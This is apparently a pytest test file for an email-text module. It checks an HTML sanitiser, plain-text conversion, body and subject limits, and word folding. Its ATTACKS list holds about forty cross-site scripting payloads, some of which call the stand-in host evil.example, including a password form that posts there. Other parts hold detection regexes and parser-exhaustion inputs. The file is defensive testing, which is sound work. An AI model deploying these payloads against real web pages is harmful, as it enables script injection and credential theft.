"""Texts on the way in: HTML made harmless, lines, words."""

import re
from collections.abc import Callable

import pytest
from hypothesis import given, strategies as st

from actions.texts import (
    check_body,
    check_subject,
    excerpt,
    one_line,
    plain_text,
    sanitised,
    words,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script><script></script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/onload=alert(2)>',
    "<img/src=x/onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; java&#x0A;script:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=a()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>body{background:url(//evil.example)}</style>",
    '<p style="position:fixed;background:url(//evil.example)">x</p>',
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet></applet>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh>",
    "<video src=//evil.example autoplay></video><audio src=x></audio><source src=x>",
    "<table background=//evil.example><td background=//evil.example>x",
    '<img src="http://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif" srcset="//evil.example/2x.gif 2x">',
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<p title="><script>alert(1)</script>">x</p>',
    "<p\xa0title='><script>alert(1)</script>'>x",
    "<p a' =\"b' ><script>alert(1)</script>\">",
    '<a name="x" id="y" class="z" target="_top" href="https://ok.example">x</a>',
    "<img src=x onerror=alert(1)",
    "<b\x00 onclick=alert(1)>x",
    "<template><script>alert(1)</script></template><slot><marquee onstart=alert(1)>",
]
HARMFUL_TAGS = re.compile(
    r"<(script|style|iframe|svg|math|object|embed|form|input|button|base|link|meta|video|audio"
    r"|template|noscript|textarea|title|applet|source)\b",
    re.IGNORECASE,
)
TAG = re.compile(r"<[a-z][^>]*>", re.IGNORECASE)
HARMFUL_IN_TAG = re.compile(
    r"""\s(on\w+|style|class|id|name|target|srcset|background|srcdoc)=|"(javascript|vbscript|data):""",
    re.IGNORECASE,
)


def harmless(html: str) -> None:
    assert not HARMFUL_TAGS.search(html), html
    for tag in TAG.findall(html):
        bare = re.sub(r'"[^"]*"', '""', tag)  # what stands in a value is text
        assert not HARMFUL_IN_TAG.search(bare), html
        assert not re.search(r'(href|src)="\s*(javascript|vbscript|data):', tag, re.IGNORECASE)
        assert not re.search(r'src="(?!cid:)', tag), html


@pytest.mark.parametrize("wrap", ["{}", "<p>{}", "<table><tr><td>{}", "<b title='{}'>", "{}{}"])
def test_attacks_stay_harmless_and_stay_so_when_cleaned_again(wrap: str) -> None:
    for attack in ATTACKS:
        body = sanitised(wrap.replace("{}", attack))
        harmless(body.html)
        assert "alert(1)</script" not in body.html
        harmless(sanitised(body.html).html)


PIECES = st.sampled_from(
    ["<", ">", "</", "/>", "<!--", "-->", "<![", "]]>", "<?", "script", "style", "svg", "math", "b",
     "a", "p", "table", "td", "img", " ", "\n", "=", '"', "'", "`", "&", "&lt;", "&#", ";", "href",
     "src", "onerror", "javascript:", "alert(1)", "\xa0", "\0", "\x01", "x", "cid:"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_soup_of_pieces_is_harmful(soup: str) -> None:
    body = sanitised(soup)
    harmless(body.html)
    assert not re.search(r"[\x00-\x08\x0b-\x1f]", body.html + body.text)


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ("<p>Ciao <b>Anna</b>,<br>ecco.</p>", "<p>Ciao <b>Anna</b>,<br>ecco.</p>"),
        ("1 < 2 && 3 > 2", "1 &lt; 2 &amp;&amp; 3 &gt; 2"),
        ("a <b and c", "a &lt;b and c"),
        ("<P>uno<P>due", "<p>uno</p><p>due</p>"),
        ("<b><i>x</b>y", "<b><i>x</i></b>y"),
        ("<p><b>x<p>y", "<p><b>x</b></p><p><b>y</b></p>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<o:p>x</o:p><font color=red>y</font>", "xy"),
        (
            "<a href=https://ok.example/?a=1&amp;b=2>x</a>",
            '<a href="https://ok.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
        ),
        (
            '<a href="mailto:a@b.c"title="t">x</a>',
            '<a href="mailto:a@b.c" title="t" rel="noopener noreferrer nofollow">x</a>',
        ),
        ('<img src="cid:1@x" alt="a">', '<img src="cid:1@x" alt="a">'),
        (
            "<table><tr><td colspan=2>x</td></tr></table>",
            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        ),
        ("a<!-- b -->c<!doctype html>d", "acd"),
        ("</p></div></b>x", "<p></p>x"),
    ],
)
def test_what_people_write_stays(html: str, clean: str) -> None:
    assert sanitised(html).html == clean


HEAVY: dict[str, Callable[[], str]] = {
    "formatting reopened": lambda: (
        "<p>" + "".join(f"<b title={n}>" for n in range(1600)) + "</p>" + "<p>x" * 1600
    ),
    "formatting nested": lambda: "<a><div>" * 20_000,
    "blocks nested": lambda: "<div>" * 39_000,
    "paragraphs": lambda: "<p><b><i>" + "<p>x" * 45_000,
    "brackets": lambda: "<" * 199_000,
    "tags never ended": lambda: "<b " * 60_000,
    "quotes never ended": lambda: '<a b="' * 30_000 + "<a b='" * 3_000,
    "comments never ended": lambda: "<!--" * 49_000,
    "spaces": lambda: ("<p a" + " " * 500) * 390,
}


@pytest.mark.parametrize("name", HEAVY)
def test_no_text_grows_or_keeps_the_parser_busy(name: str) -> None:
    """28 kB of the first made 50 MB in 47 s once: the suite's own timeout is the measure."""
    html = HEAVY[name]()
    body = sanitised(html)
    assert len(body.html) < 10 * len(html) + 100


def test_plain_text_has_a_line_for_every_block() -> None:
    html = "<p>Uno  <b>due</b></p><ul><li>tre</li><li>quattro</li></ul>a<br>b &amp; &lt;c&gt;<hr>"
    assert plain_text(html) == "Uno due\ntre\nquattro\na\nb & <c>"
    assert sanitised("<p>a</p>\n\n<p> </p>b").text == "a\nb"
    assert sanitised("&amp;lt;script&gt;").text == "&lt;script>"


def test_limits_of_a_body() -> None:
    for good in ("x" * 200_000, "è" * 100_000, '<img src="cid:1">', "0"):
        assert check_body(sanitised(good), good) == []
    for bad in ("x" * 200_001, "è" * 100_001, "<" * 1_000_000):
        (error,) = check_body(sanitised(bad), bad)
        assert "200,000" in error.message
    for empty in (
        "",
        " \n\0",
        "<p></p>",
        "<img>",
        '<img src="//x">',
        '<p title="<img src=">',
        "<!-- x -->",
        "<p>\u200b&#xad;</p>",
    ):
        (error,) = check_body(sanitised(empty), empty)
        assert "empty" in error.message


def test_limits_of_a_subject() -> None:
    assert check_subject("x" * 250) == []
    assert check_subject("") != []
    assert check_subject("x" * 251) != []


def test_one_line() -> None:
    assert one_line(" a\r\n b\0\tc\x1b[0m\x7f\u2029d ") == "a b c [0m d"
    assert one_line("\0\x01\n") == ""
    assert one_line("Anna\u202egnp.exe") == "Annagnp.exe"
    assert one_line(" \u200b\u2060\ufeff\xad ") == ""
    assert one_line("👩\u200d💻 a\u200cb") == "👩\u200d💻 a\u200cb"


def test_an_excerpt() -> None:
    assert excerpt("a\nb  c") == "a b c"
    assert excerpt("x" * 200) == "x" * 200
    assert excerpt("x" * 201) == "x" * 199 + "…"


def test_words_are_folded() -> None:
    assert words("Però, la STRASSE/Straße è già_qui", "L'ISEE-2024") == {
        "pero", "la", "strasse", "e", "gia", "qui", "l", "isee", "2024"
    }  # fmt: skip
    assert words("İstanbul Ёлка ﬁne Ⅳ \U0001d401old") == {"istanbul", "елка", "fine", "iv", "bold"}
    assert words("a" * 50) == {"a" * 40}
    assert words("", " .,;!?_-\0\x01🗝") == set()


@given(st.text())
def test_words_are_the_same_when_folded_again(text: str) -> None:
    found = words(text)
    assert all(len(one) <= 40 for one in found)
    assert {one for each in found for one in words(each)} <= found | {one[:40] for one in found}
